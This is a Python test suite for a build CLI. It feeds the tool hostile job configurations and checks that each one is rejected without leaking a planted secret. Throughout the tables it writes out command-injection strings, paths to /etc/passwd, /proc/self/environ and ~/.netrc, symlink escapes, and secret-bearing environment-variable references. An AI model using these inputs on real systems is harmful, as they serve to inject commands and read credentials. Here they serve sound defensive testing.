"""Hostile jobs against the trust boundary, through the real `launchbuild` CLI (a new process).

One table, one row per hostile input, in four classes (docs/SECURITY.md):

* `operator-*`: a job's own config asks for an operator option (push targets, CA bundles,
  engines, uid, network policy): one line naming the key and the file, never applied;
* `url-*`: index / find-links / requirement URLs that would be shell or Dockerfile syntax,
  reach another scheme, or expand the operator's environment;
* `confine-*`: files and folders a job names outside its own tree, through links, FIFOs,
  devices, /proc, `~`, `..`, absolute paths, or too large;
* `cred-*`: credentials in URLs, in inputs that fail: the message never carries them.

Each row asserts the exit code, that stderr is exactly one line starting with `error:`, that
there is no traceback, and that no canary (planted file content, tokens) is printed.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import pytest

from launchbuild.options import OPERATOR_OPTION_NAMES

RUN = uuid.uuid4().hex[:8]
CANARY = f"hostile-canary-{RUN}"  # planted in host files outside the job, and in tokens
BIN = Path(sys.executable).parent / "launchbuild"


@dataclass(frozen=True)
class Row:
    make: Callable[[Path], list[str]]  # builds the job under tmp, returns the CLI args
    exit_code: int = 2
    needles: tuple[str, ...] = ()  # all must be in the one stderr line
    stdin_timeout: float = 60.0


@dataclass
class Host:
    """The operator's machine, as the job would like to read it."""

    root: Path
    home: Path = field(init=False)
    secret: Path = field(init=False)

    def __post_init__(self) -> None:
        self.home = self.root / "home"
        self.home.mkdir()
        (self.home / ".netrc").write_text(f"machine corp.invalid login ops password {CANARY}\n")
        self.secret = self.root / "host-secret.txt"
        self.secret.write_text(f"password {CANARY}\n")


def _job(tmp: Path, requirements: str | None = None, toml: str | None = None, **files: str) -> Path:
    job = tmp / "job"
    job.mkdir(exist_ok=True)
    (job / "train.py").write_text("print('train')\n")
    (job / "launchbuild.toml").write_text(toml if toml is not None else 'python = "3.11"\nentrypoint = "python train.py"\n')
    if requirements is not None:
        (job / "requirements.txt").write_text(requirements)
    for name, text in files.items():
        path = job / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return job


def check(job: Path, *extra: str) -> list[str]:
    return ["check", str(job), "--offline", *extra]


def req(text: str, **files: str) -> Callable[[Path], list[str]]:
    return lambda tmp: check(_job(tmp, text, **files))


def operator_key(key: str, value: str, *, pyproject: bool = False) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        if pyproject:
            job = _job(tmp, "six==1.16.0\n", toml='python = "3.11"\n')
            (job / "launchbuild.toml").unlink()
            (job / "pyproject.toml").write_text(f'[tool.launchbuild]\nentrypoint = "python train.py"\n{key} = {value}\n')
        else:
            job = _job(tmp, "six==1.16.0\n", toml=f'python = "3.11"\nentrypoint = "python train.py"\n{key} = {value}\n')
        return check(job)
    return make


_OPERATOR_VALUES = {
    "offline": "false", "resolver": '"pip-tools"', "torch-index-url": f'"https://evil.invalid/{CANARY}"',
    "engine": '"classic"', "uid": "0", "push": f'"evil.invalid/{CANARY}"', "kubernetes-namespace": '"kube-system"',
    "kubernetes-context-store": f'"s3://evil/{CANARY}"', "kubernetes-builder": '"kaniko"',
    "ca-bundle": '"/etc/shadow"', "allow-index-host": f'["{CANARY}.invalid"]',
    # Where the job's own build backend runs: a job choosing the host (or its own image) is refused.
    "host-builds": "true", "cache-scope": f'"{CANARY}"', "build-sandbox-image": f'"evil.invalid/{CANARY}:{{python}}"',
    # The cluster's credentials, trust, identity, nodes and images (options/table.py).
    "kubernetes-registry-secret": '"cluster-admin-push"', "kubernetes-insecure-registry": "true",
    "kubernetes-ca-configmap": '"attacker-ca"', "kubernetes-ca-key": '"ca.crt"',
    "kubernetes-service-account": '"cluster-admin"', "kubernetes-storage-secret": '"aws-root-keys"',
    "kubernetes-cache-repo": f'"evil.invalid/{CANARY}"', "kubernetes-resources": '["cpu-request=64"]',
    "kubernetes-node-selector": '["node-role.kubernetes.io/control-plane=true"]',
    "kubernetes-toleration": '["node-role.kubernetes.io/control-plane:NoSchedule"]',
    "kubernetes-timeout": "604800", "kubernetes-ttl-after-finished": "0",
    "kubernetes-builder-image": f'"evil.invalid/{CANARY}:latest"', "kubernetes-fetch-image": f'"evil.invalid/{CANARY}"',
    "kubernetes-ca-secret": '"attacker-ca"', "kubernetes-uv-image": f'"evil.invalid/{CANARY}:uv"', "kubernetes-verify": "false",
    "kubernetes-verify-timeout": "1", "kubernetes-promote-image": f'"evil.invalid/{CANARY}:crane"',
    "kubernetes-context-store-path": '"/etc"', "kubernetes-context-uploader": f'"sh -c {CANARY}"',
}


def _symlinked(name: str, target_of: Callable[[Path], Path], requirements: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        job = _job(tmp, requirements)
        os.symlink(target_of(tmp), job / name)
        return check(job)
    return make


def _fifo_include(tmp: Path) -> list[str]:
    job = _job(tmp, "-r pipe.txt\n")
    os.mkfifo(job / "pipe.txt")
    return check(job)


def _big_include(tmp: Path) -> list[str]:
    job = _job(tmp, "-r big.txt\n")
    with open(job / "big.txt", "w") as fh:
        fh.write(("# padding\n" * 1024) * 520)  # > 5 MiB
    return check(job)


def _dir_include(tmp: Path) -> list[str]:
    job = _job(tmp, "-r sub\n")
    (job / "sub").mkdir()
    return check(job)


def _git_repo(tmp: Path, setup: Callable[[Path], None]) -> str:
    repo = tmp / "repo"
    repo.mkdir()
    (repo / "train.py").write_text("print('train')\n")
    (repo / "launchbuild.toml").write_text('python = "3.11"\nentrypoint = "python train.py"\n')
    setup(repo)
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t"}
    for args in (["init", "-q"], ["add", "-A"], ["commit", "-q", "-m", "hostile"]):
        subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)
    return f"file://{repo}"


def git_with_link(name: str, target: str, requirements: str) -> Callable[[Path], list[str]]:
    def make(tmp: Path) -> list[str]:
        def setup(repo: Path) -> None:
            (repo / "requirements.txt").write_text(requirements)
            os.symlink(target.replace("HOST", str(tmp)), repo / name)
        return check_git(_git_repo(tmp, setup))
    return make


def check_git(url: str) -> list[str]:
    return ["check", url, "--offline"]


def spec_job(frozen: Callable[[Path, Path], None]) -> Callable[[Path], list[str]]:
    """A W&B-style artifact job: the spec, its code and its run's package list beside it."""
    def make(tmp: Path) -> list[str]:
        spec_dir = tmp / "spec"
        spec_dir.mkdir()
        (spec_dir / "train.py").write_text("print('train')\n")
        (spec_dir / "wandb-job.json").write_text(
            '{"source_type": "artifact", "source": {"artifact": "x", "entrypoint": ["python", "train.py"]}, '
            '"runtime": "3.11"}')
        frozen(tmp, spec_dir / "requirements.frozen.txt")
        return ["check", str(spec_dir / "wandb-job.json"), "--offline"]
    return make


def spec_git_remote(remote_of: Callable[[Path], str]) -> Callable[[Path], list[str]]:
    """A W&B-style repo job whose remote is chosen by the job's author."""
    def make(tmp: Path) -> list[str]:
        spec_dir = tmp / "spec"
        spec_dir.mkdir()
        (spec_dir / "wandb-job.json").write_text(json.dumps(
            {"source_type": "repo", "source": {"git": {"remote": remote_of(tmp)}, "entrypoint": ["python", "train.py"]},
             "runtime": "3.11"}))
        return ["check", str(spec_dir / "wandb-job.json"), "--offline"]
    return make


def _host_repo(tmp: Path) -> str:
    """A git repository on the operator's disk, holding the canary."""
    return _git_repo(tmp, lambda repo: (repo / "secret.txt").write_text(f"password {CANARY}\n"))


def spec_artifact_link(name: str, target_of: Callable[[Path], Path]) -> Callable[[Path], list[str]]:
    """A W&B-style artifact job whose code beside the spec is a link to the operator's files."""
    def make(tmp: Path) -> list[str]:
        spec_dir = tmp / "spec"
        spec_dir.mkdir()
        (spec_dir / "wandb-job.json").write_text(
            '{"source_type": "artifact", "source": {"entrypoint": ["python", "train.py"]}, "runtime": "3.11"}')
        os.symlink(target_of(tmp), spec_dir / name)
        return ["check", str(spec_dir / "wandb-job.json"), "--offline"]
    return make


def _host_code_dir(tmp: Path) -> Path:
    (tmp / "home" / "train.py").write_text("print('train')\n")
    return tmp / "home"


def _host_code_archive(tmp: Path) -> Path:
    import tarfile

    with tarfile.open(tmp / "host.tar.gz", "w:gz") as tar:
        tar.add(_host_code_dir(tmp), arcname=".")
    return tmp / "host.tar.gz"


ROWS: dict[str, Row] = {}

# --- operator options asked for by the job -------------------------------------------------
for _key in sorted(OPERATOR_OPTION_NAMES):
    ROWS[f"operator-{_key}"] = Row(operator_key(_key, _OPERATOR_VALUES[_key]), 2,
                                   (f"'{_key}' is an operator option", "launchbuild.toml"))
ROWS["operator-pyproject-push"] = Row(operator_key("push", f'"evil.invalid/{CANARY}"', pyproject=True), 2,
                                      ("'push' is an operator option", "pyproject.toml"))
ROWS["operator-pyproject-ca-bundle"] = Row(operator_key("ca-bundle", '"/etc/ssl/private/key.pem"', pyproject=True), 2,
                                           ("'ca-bundle'", "pyproject.toml"))
ROWS["operator-unknown-key"] = Row(operator_key("docker-host", '"tcp://evil.invalid"'), 2, ("unknown", "docker-host"))

# --- URLs that would be syntax, another scheme, or an environment read ---------------------
_URL_ROWS = {
    "url-index-backtick": "--index-url https://x.invalid/`id`/simple\nsix\n",
    "url-index-pipe": "--index-url https://x.invalid/simple|id\nsix\n",
    "url-index-redirect": "--index-url https://x.invalid/simple>/tmp/x\nsix\n",
    "url-index-braces": "--extra-index-url https://x.invalid/{a,b}\nsix\n",
    "url-index-quote": "--extra-index-url 'https://x.invalid/\"simple'\nsix\n",
    "url-index-backslash": "--extra-index-url https://x.invalid/a\\\\b\nsix\n",
    "url-index-env-var": "--extra-index-url https://x.invalid/${HOME}/simple\nsix\n",
    "url-index-env-var-userinfo": "--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@x.invalid/simple\nsix\n",
    "url-index-tab": "--extra-index-url 'https://x.invalid/\tsimple'\nsix\n",
    "url-index-newline-quoted": "--extra-index-url 'https://x.invalid/\nsimple'\nsix\n",
    "url-index-file-scheme": "--index-url file:///etc/passwd\nsix\n",
    "url-index-ftp": "--index-url ftp://x.invalid/simple\nsix\n",
    "url-index-no-host": "--index-url https:///simple\nsix\n",
    "url-index-bad-port": "--index-url https://x.invalid:99999/simple\nsix\n",
    "url-findlinks-caret": "--find-links https://x.invalid/^wheels\nsix\n",
    "url-requirement-pipe": "six @ https://x.invalid/six|id.whl\n",
    "url-requirement-ftp": "six @ ftp://x.invalid/six-1.16.0-py2.py3-none-any.whl\n",
    "url-requirement-env": "six @ https://x.invalid/${GITHUB_TOKEN}/six.whl\n",
    "url-env-in-name-line": "six==${VERSION}\n",
    "url-trusted-host-newline": "--trusted-host 'x.invalid\nevilpkg @ https://x.invalid/e.whl'\nsix\n",
    "url-only-binary-semicolon": "--only-binary ':all:;id'\nsix\n",
}
ROWS["url-env-in-pyproject-dependency"] = Row(
    lambda t: check(_job(t, None, **{"pyproject.toml": '[project]\nname = "j"\nversion = "1"\n'
                                                        'dependencies = ["six @ https://x.invalid/${AWS_SECRET_ACCESS_KEY}/six.whl"]\n'})),
    2, ("pyproject.toml", "variable reference"))
for _id, _text in _URL_ROWS.items():
    ROWS[_id] = Row(req(_text), 2, ("requirements.txt",))

# --- files outside the job's tree ----------------------------------------------------------
ROWS.update({
    "confine-include-absolute": Row(lambda t: check(_job(t, f"-r {t}/host-secret.txt\n")), 2, ("absolute path",)),
    "confine-include-dotdot": Row(req("-r ../host-secret.txt\n"), 2, ("outside the job's source tree",)),
    "confine-include-home": Row(req("-r ~/.netrc\n"), 2, ("home-directory path",)),
    "confine-include-home-long": Row(req("--requirement=~/.netrc\n"), 2, ("home-directory path",)),
    "confine-constraint-absolute": Row(req("-c /etc/passwd\nsix\n"), 2, ("absolute path",)),
    "confine-include-dev-zero": Row(req("-r /dev/zero\n"), 2, ("/dev/zero",)),
    "confine-include-proc-environ": Row(req("-r /proc/self/environ\n"), 2, ("/proc/self/environ",)),
    "confine-include-fifo": Row(_fifo_include, 2, ("not a regular file",)),
    "confine-include-directory": Row(_dir_include, 2, ("is a directory",)),
    "confine-include-too-large": Row(_big_include, 2, ("larger than",)),
    "confine-include-nested-escape": Row(req("-r sub/inner.txt\n", **{"sub/inner.txt": "-r ../../host-secret.txt\n"}), 2,
                                         ("sub/inner.txt", "outside")),
    "confine-include-control-char": Row(req("-r 'a\x01b.txt'\n"), 2, ("control characters",)),
    "confine-include-link-out": Row(_symlinked("inc.txt", lambda t: t / "host-secret.txt", "-r inc.txt\n"), 2,
                                    ("symlink", "inc.txt")),
    "confine-requirements-link-out": Row(_symlinked("requirements.txt", lambda t: t / "home" / ".netrc", None), 2,
                                         ("symlink", "requirements.txt")),
    "confine-python-version-link-out": Row(_symlinked(".python-version", lambda t: t / "host-secret.txt", "six\n"), 2,
                                           (".python-version",)),
    "confine-findlinks-dotdot": Row(req("--find-links ../\nsix\n"), 2, ("--find-links folder", "outside")),
    "confine-findlinks-absolute": Row(req("--find-links /etc\nsix\n"), 2, ("--find-links folder", "absolute")),
    "confine-findlinks-file-url": Row(req("--find-links file:///root\nsix\n"), 2, ("--find-links folder",)),
    "confine-path-requirement-out": Row(req("../host-secret.txt\n"), 2, ("outside the job's source tree",)),
    "confine-editable-out": Row(req("-e /etc\n"), 2, ("outside the job's source tree",)),
    "confine-file-url-out": Row(req("six @ file:///etc/passwd\n"), 2, ("outside the job's source tree",)),
    "confine-entrypoint-script-out": Row(
        lambda t: check(_job(t, None, toml='python = "3.11"\nentrypoint = "python ../host-secret.txt"\n')), 2,
        ("script", "outside")),
    "confine-spec-run-list-link-out": Row(spec_job(lambda t, p: os.symlink(t / "home" / ".netrc", p)), 2,
                                          ("requirements.frozen.txt",)),
    "confine-spec-run-list-include-out": Row(spec_job(lambda t, p: p.write_text("-r ../home/.netrc\n")), 2,
                                             ("outside",)),
    "confine-spec-git-file-remote": Row(spec_git_remote(_host_repo), 2, ("source.git.remote", "on this machine")),
    "confine-spec-git-file-remote-upper": Row(spec_git_remote(lambda t: _host_repo(t).replace("file", "FILE", 1)), 2,
                                              ("on this machine",)),
    "confine-spec-artifact-code-link-out": Row(spec_artifact_link("code", _host_code_dir), 2,
                                               ("link out of the job spec's folder",)),
    "confine-spec-artifact-archive-link-out": Row(spec_artifact_link("code.tar.gz", _host_code_archive), 2,
                                                  ("link out of the job spec's folder",)),
    "operator-pyproject-shadowed-by-launchbuild-toml": Row(
        lambda t: check(_job(t, None, **{"pyproject.toml": f'[tool.launchbuild]\nca-bundle = "{t}/host-secret.txt"\n'})),
        2, ("'ca-bundle' is an operator option", "pyproject.toml")),
    "operator-top-level-beside-table": Row(
        lambda t: check(_job(t, None, toml=f'push = "evil.invalid/{CANARY}"\n[tool.launchbuild]\npython = "3.11"\n'
                                           'entrypoint = "python train.py"\n')), 2, ("'push' is an operator option",)),
    "confine-git-link-out": Row(git_with_link("constraints.txt", "HOST/host-secret.txt", "-c constraints.txt\nsix\n"), 2,
                                ("git checkout", "symlink")),
    "confine-git-link-home": Row(git_with_link("notes.txt", "HOST/home/.netrc", "six\n"), 2,
                                 ("git checkout", "notes.txt")),
    # A VCS requirement clones from the network only: never a repository on the operator's disk,
    # never a subdirectory that climbs out of the checkout (resolver/artifacts._vcs_parts).
    "confine-vcs-file-url": Row(lambda t: check(_job(t, f"x @ git+file://{t}/home\n")), 2,
                                ("requirements.txt:1", "clones from file")),
    "confine-vcs-editable-file-url": Row(req("-e git+file:///srv/private.git#egg=x\n"), 2, ("clones from file",)),
    "confine-vcs-subdirectory-dotdot": Row(req("x @ git+https://x.invalid/a.git@main#subdirectory=../../etc\n"), 2,
                                           ("subdirectory", "leaves the checkout")),
    "confine-vcs-subdirectory-encoded": Row(req("x @ git+https://x.invalid/a.git@v1#subdirectory=%2e%2e/%2e%2e\n"), 2,
                                            ("leaves the checkout",)),
    "confine-vcs-subdirectory-absolute": Row(req("x @ git+https://x.invalid/a.git@v1#subdirectory=/etc\n"), 2,
                                             ("leaves the checkout",)),
    "confine-pipfile-git-file-url": Row(
        lambda t: check(_job(t, None, **{"Pipfile": '[packages]\nx = {git = "file:///srv/private.git", ref = "main"}\n'})),
        2, ("clones from file",)),
    "confine-pylock-vcs-file-url": Row(
        lambda t: check(_job(t, None, **{"pylock.toml": 'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "x"\n'
                                                       'version = "1"\nvcs = {type = "git", url = "file:///srv/private.git", '
                                                       'commit-id = "' + "a" * 40 + '"}\n'})), 2, ("clones from file",)),
    "confine-git-include-absolute": Row(
        lambda t: check_git(_git_repo(t, lambda r: (r / "requirements.txt").write_text(f"-r {t}/host-secret.txt\n"))),
        2, ("absolute path",)),
})

# --- credentials in URLs never printed -----------------------------------------------------
ROWS.update({
    "cred-index-bad-char": Row(req(f"--index-url https://ops:{CANARY}@x.invalid/simple|id\nsix\n"), 2, ("***",)),
    "cred-extra-index-env": Row(req(f"--extra-index-url https://{CANARY}@x.invalid/${{HOME}}\nsix\n"), 2, ("requirements.txt",)),
    "cred-remote-include": Row(req(f"-r https://ops:{CANARY}@x.invalid/reqs.txt\n"), 2, ("remote include",)),
    "cred-requirement-bad-url": Row(req(f"six @ https://ops:{CANARY}@x.invalid/six^1.whl\n"), 2, ("requirement URL",)),
    "cred-findlinks-bad-url": Row(req(f"--find-links https://ops:{CANARY}@x.invalid/{{w}}\nsix\n"), 2, ("--find-links",)),
    "cred-two-accounts-one-host": Row(req(f"--index-url https://a:{CANARY}@x.invalid/simple\n"
                                          f"--extra-index-url https://b:{CANARY}x@x.invalid/other\nsix\n"), 2,
                                      ("two different credentials", "x.invalid")),
    "cred-quote-in-token": Row(req(f"--index-url https://ops:{CANARY}%22q@x.invalid/simple\nsix\n"), 2,
                               ("credentials",)),
    "cred-unknown-option-after": Row(req(f"--index-url https://ops:{CANARY}@x.invalid/simple extra\nsix\n"), 2,
                                     ("unexpected text",)),
    "cred-query-token": Row(req(f"--extra-index-url https://x.invalid/simple?token={CANARY}\nsix\n"), 2,
                            ("query string", "x.invalid")),
    "cred-presigned-wheel": Row(req(f"six @ https://x.invalid/six-1.16.0-py2.py3-none-any.whl?X-Amz-Signature={CANARY}\n"),
                                2, ("query string",)),
    "cred-offline-no-cache": Row(req(f"--extra-index-url https://ops:{CANARY}@x.invalid/simple\nsix==1.16.0\n"
                                     f"# {uuid.uuid4().hex}\n"), 3, ("--offline",)),
})


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


@pytest.mark.parametrize("row_id", sorted(ROWS))
def test_hostile_job(row_id: str, host: Host, tmp_path: Path) -> None:
    row = ROWS[row_id]
    args = row.make(tmp_path)
    env = {**os.environ, "HOME": str(host.home), "XDG_CONFIG_HOME": str(tmp_path / "xdg"), "NO_COLOR": "1",
           "COLUMNS": "400", "LAUNCHBUILD_CACHE_DIR": str(tmp_path / "cache")}
    env.pop("LAUNCHBUILD_CONFIG", None)
    result = subprocess.run([str(BIN), *args], capture_output=True, text=True, env=env, cwd=tmp_path,
                            timeout=row.stdin_timeout, stdin=subprocess.DEVNULL)
    output = result.stdout + result.stderr
    assert result.returncode == row.exit_code, output
    assert "Traceback" not in output
    lines = [line for line in result.stderr.splitlines() if line.strip() and not line.startswith("==> ")]
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    for needle in row.needles:
        assert needle in lines[0], (needle, lines[0])
    assert CANARY not in output


def test_hostile_row_count() -> None:
    assert len(ROWS) >= 45
    print(f"\n{len(ROWS)} hostile jobs through the CLI")


# --- the operator's side of the boundary, through the same CLI -------------------------------


def _run(args: list[str], tmp_path: Path, **env: str) -> subprocess.CompletedProcess:
    full = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "xdg"), "NO_COLOR": "1", "COLUMNS": "400",
            "LAUNCHBUILD_CACHE_DIR": str(tmp_path / "cache"), **env}
    full.pop("LAUNCHBUILD_CONFIG", None)
    return subprocess.run([str(BIN), *args], capture_output=True, text=True, env=full, cwd=tmp_path, timeout=60)


def test_operator_config_sets_operator_options_and_verbose_names_it(tmp_path: Path) -> None:
    job = _job(tmp_path, None, toml='python = "3.11"\nentrypoint = "python train.py"\nextra = ["gpu"]\n')
    config = tmp_path / "ops.toml"
    config.write_text('push = "127.0.0.1:5055/team/x"\nuid = 1234\n')
    result = _run(["check", str(job), "--offline", "--config", str(config), "-v"], tmp_path)
    assert result.returncode == 0, result.stderr
    out = result.stdout + result.stderr
    assert "127.0.0.1:5055/team/x" in out and "operator config" in out and "ops.toml" in out
    assert "gpu" in out and "config file (job/launchbuild.toml)" in out, out  # a job option from the job file


def test_default_operator_config_under_xdg(tmp_path: Path) -> None:
    job = _job(tmp_path, None)
    (tmp_path / "xdg" / "launchbuild").mkdir(parents=True)
    (tmp_path / "xdg" / "launchbuild" / "config.toml").write_text('engine = "classic"\n')
    result = _run(["show", str(job), "-v"], tmp_path)
    assert result.returncode == 0 and "classic" in result.stdout + result.stderr


@pytest.mark.parametrize("args, needle", [
    (["--config", "missing.toml"], "operator config missing.toml: not a file"),
    (["--config", "bad.toml"], "unknown launchbuild option 'registry'"),
])
def test_bad_operator_config_through_the_cli(tmp_path: Path, args: list[str], needle: str) -> None:
    (tmp_path / "bad.toml").write_text('registry = "x"\n')
    result = _run(["check", str(_job(tmp_path, None)), "--offline", *args], tmp_path)
    lines = [line for line in result.stderr.splitlines() if line.strip() and not line.startswith("==> ")]
    assert result.returncode == 2 and len(lines) == 1 and needle in lines[0], result.stderr


def test_ca_bundle_flag_is_the_operators(tmp_path: Path) -> None:
    result = _run(["dockerfile", str(_job(tmp_path, None)), "--offline", "--ca-bundle", str(tmp_path / "nope.pem")],
                  tmp_path)
    lines = [line for line in result.stderr.splitlines() if line.strip() and not line.startswith("==> ")]
    assert result.returncode == 2 and len(lines) == 1 and "--ca-bundle" in lines[0], result.stderr


# --- indexes named outside requirement lines: a lock's registries, [[tool.uv.index]] ----------

_LOCK_HASH = "sha256:" + "a" * 64
_LOCKS_WITH_INDEX_CREDENTIALS = {
    "uv.lock": lambda i: (f'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "six"\nversion = "1.16.0"\n'
                          f'source = {{ registry = "{i}" }}\nwheels = [{{ url = "{i}/six-1.16.0-py2.py3-none-any.whl", '
                          f'hash = "{_LOCK_HASH}" }}]\n[[package]]\nname = "j"\nversion = "1"\nsource = {{ editable = "." }}\n'
                          'dependencies = [{ name = "six" }]\n'),
    "pylock.toml": lambda i: (f'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "six"\nversion = "1.16.0"\n'
                              f'index = "{i}"\n[[packages.wheels]]\nurl = "{i}/six-1.16.0-py2.py3-none-any.whl"\n'
                              f'hashes = {{sha256 = "{"a" * 64}"}}\n'),
    "Pipfile.lock": lambda i: ('{"_meta": {"sources": [{"url": "' + i + '", "name": "x", "verify_ssl": true}], '
                               '"requires": {}}, "default": {"six": {"version": "==1.16.0", "hashes": ["'
                               + _LOCK_HASH + '"], "index": "x"}}, "develop": {}}'),
}


@pytest.mark.parametrize("command", [["resolve", "-f", "json"], ["check", "-v", "-f", "json"], ["dockerfile"]])
@pytest.mark.parametrize("lock_name", sorted(_LOCKS_WITH_INDEX_CREDENTIALS))
def test_a_locks_index_credentials_are_never_printed(tmp_path: Path, lock_name: str, command: list[str]) -> None:
    """A lock's registry URLs (uv.lock `source.registry`, pylock `index`, Pipfile.lock
    `_meta.sources`) lose their userinfo like requirement-file indexes: the credentials go to
    the install step as the netrc secret, and no output holds them."""
    index = f"https://ops:{CANARY}@x.invalid/simple"
    files = {lock_name: _LOCKS_WITH_INDEX_CREDENTIALS[lock_name](index)}
    if lock_name == "uv.lock":
        files["pyproject.toml"] = '[project]\nname = "j"\nversion = "1"\ndependencies = ["six"]\n'
    job = _job(tmp_path, None, **files)
    result = _run([command[0], str(job), "--offline", *command[1:]], tmp_path)
    output = result.stdout + result.stderr
    assert result.returncode == 0 and "Traceback" not in output, output[-2000:]
    assert CANARY not in output
    if command[0] == "dockerfile":
        assert "--mount=type=secret,id=netrc" in result.stdout


def test_a_bare_user_password_at_host_is_never_echoed(tmp_path: Path) -> None:
    job = _job(tmp_path, f"--trusted-host ops:{CANARY}@x.invalid\nsix\n")
    result = _run(["check", str(job), "--offline"], tmp_path)
    lines = [line for line in result.stderr.splitlines() if line.strip() and not line.startswith("==> ")]
    assert result.returncode == 2 and len(lines) == 1 and "--trusted-host" in lines[0], result.stderr
    assert CANARY not in result.stdout + result.stderr


@pytest.mark.parametrize("toml_line", ['gpu = ["H100\\nerror: forged"]', 'entrypoint = "python train.py\\nerror: forged"',
                                        'ignore = ["LB308\\rerror: forged"]'])
def test_verbose_option_lines_print_a_jobs_newline_escaped(tmp_path: Path, toml_line: str) -> None:
    """`-v` prints every option with its value; a job's value cannot forge a line of its own."""
    toml = 'python = "3.11"\nentrypoint = "python train.py"\n'
    toml = "\n".join([*(line for line in toml.splitlines() if line.split(" ")[0] != toml_line.split(" ")[0]), toml_line, ""])
    result = _run(["check", str(_job(tmp_path, None, toml=toml)), "--offline", "-v"], tmp_path)
    assert "Traceback" not in result.stdout + result.stderr
    forged = [line for line in (result.stdout + result.stderr).splitlines() if line.lstrip().startswith("error: forged")]
    assert not forged, result.stderr[-2000:]
